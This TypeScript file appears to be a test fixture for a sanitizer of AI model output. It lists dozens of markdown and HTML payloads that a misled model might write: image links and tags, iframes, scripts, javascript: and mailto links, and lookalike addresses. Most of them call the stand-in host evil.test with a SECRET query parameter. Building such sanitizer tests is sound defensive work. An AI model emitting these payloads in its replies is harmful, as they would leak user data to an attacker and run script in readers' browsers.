const EVIL = 'https://evil.test/p?d=SECRET';

/** Texts of a model that was misled: what it writes, and the words that its reader must still see. */
type OutputPayload = { readonly written: string; readonly words: readonly string[] };

const of = (written: string, ...words: string[]): OutputPayload => ({ written, words });
const linked = (label: string, ...words: string[]) =>
  of(`See [${label}](${EVIL}) for more.`, ...words, 'for more');

/** Images, elements, links in every shape, references and addresses that would load, run or mislead. */
export const OUTPUT_PAYLOADS: readonly OutputPayload[] = [
  // Images
  of(`A ![photo](${EVIL}) here.`, 'photo', 'here'),
  of(`A ![photo](<${EVIL}> "title") here.`, 'photo', 'here'),
  of(`A ![two\nlines](${EVIL}) here.`, 'two lines', 'here'),
  of(`A ![photo][r] here.\n\n[r]: ${EVIL}`, 'photo', 'here'),
  of(`A [![photo](${EVIL})](${EVIL}) here.`, 'photo', 'here'),
  of(`A ![a [b](${EVIL}) c](${EVIL}) here.`, 'here'),
  of(`A ![photo](data:image/svg+xml;base64,PHN2Zz4=) here.`, 'photo', 'here'),
  of(`> - ![photo](${EVIL})`, 'photo'),
  of(`| a | b |\n|---|---|\n| ![photo](${EVIL}) | c |`, 'photo', 'c'),
  of(`# ![photo](${EVIL})\n\ntext`, 'photo', 'text'),
  of(`![${'long '.repeat(150)}](${EVIL}) here.`, 'long', 'here'),
  of(`A \`code ![photo](${EVIL}) here.`, 'photo', 'here'),
  // Elements
  of(`A <img src="${EVIL}"> here.`, 'here'),
  of(`A <img/src=//evil.test/p> here.`, 'here'),
  of('A <script>alert("x")</script> here.', 'here'),
  of('<div onclick="steal()">\n\ntext\n\n</div>', 'text'),
  of(`A <a href="${EVIL}">bank</a> here.`, 'bank', 'here'),
  of(`A <iframe src="${EVIL}"></iframe> here.`, 'here'),
  of('<style>* { background: url(//evil.test) }</style>\n\ntext', 'text'),
  of('A <!-- hidden --> here.', 'here'),
  of('A <?php steal() ?> here.', 'here'),
  of('A <![CDATA[x]]> here.', 'here'),
  of(`A <svg><image href="${EVIL}"/></svg> here.`, 'here'),
  of('Unclosed at the end <img src="https://evil.test/p', 'Unclosed'),
  of(`| a |\n|---|\n| <img src=${EVIL}> b |`, 'b'),
  of(`- item\n\n  <img src=${EVIL}>`, 'item'),
  // Links that look like citations or like other addresses
  ...['**1**', '(1)', '¹', '1,', '*1*', '1 ', '`1`', '&#49;', '①', '1–2', '№', '→', '†'].map((label) =>
    linked(label),
  ),
  linked('bank.test', 'bank.test'),
  linked('https://bank.test/login', 'bank.test'),
  linked('the **lake**', 'the', 'lake', 'evil.test'),
  linked('the `lake`', 'the', 'lake'),
  linked('the\nlake', 'the lake'),
  of(`See [mail](mailto:a@evil.test?body=SECRET) us.`, 'mail', 'us'),
  of('See [text](javascript:steal()) now.', 'text', 'now'),
  of('See [text](java&#9;script:steal()) now.', 'text', 'now'),
  of('See [text](/logout) now.', 'text', 'now'),
  of('See [text](https://animals.test@evil.test/) now.', 'text', 'now'),
  of('See [text](https://animals.test.evil.test/) now.', 'text', 'now'),
  // References and addresses
  of(`See [the lake][r].\n\n[r]: ${EVIL} "title"`, 'the lake'),
  of(`See [r] and [r][].\n\n> [r]:\n> <${EVIL}>`, 'and'),
  of(`[two\nlines]: ${EVIL}\n\nSee [two lines].`, 'See'),
  of(`See it[^a].\n\n[^a]: Read ${EVIL}`, 'Read', 'evil.test'),
  of(`See <${EVIL}> now.`, 'evil.test', 'now'),
  of(`See ${EVIL}, www.evil.test/a and **${EVIL}** now.`, 'evil.test', 'now'),
  of('See https\\://evil.test/a and &#104;ttps://evil.test now.', 'evil.test', 'now'),
  of('See <javascript:steal()> now.', 'now'),
  of('See //evil.test/a and HTTPS://EVIL.TEST/a now.', 'now'),
  of(`See [a\\](${EVIL}) and \\[b](${EVIL}) now.`, 'and', 'now'),
  of(`Say \`\`\`js\n![photo](${EVIL}) here.`, 'photo', 'here'),
  of(`1. item\n   \`\`\`\n   code\n   \`\`\`\n\n![photo](${EVIL}) here.`, 'code', 'photo', 'here'),
  of(`See [the lake](${EVIL} "the title") now.`, 'the lake', 'now'),
  // Marks that a parser takes as part of an address, and lists that the removal of a link would begin
  of(`See https://animals.test/a\` ![photo](${EVIL}) \` here.`, 'photo', 'here'),
  of('See (https://animals.test/a)<img src=//evil.test/p> here.', 'here'),
  of('See https://animals.test/a??https://evil.test/p here.', 'here'),
  of('A <\\style onload=steal()> here.', 'here'),
  of('\n[1](https://evil.test). [r]: https:/\\evil.test/p\n\n![r] here.', 'here'),
  of('\n-![](x) a\n\n    <img src=//evil.test/p> here.', 'here'),
  of('$\\href{https://evil.test/p}{1}$ and text', 'text'),
];
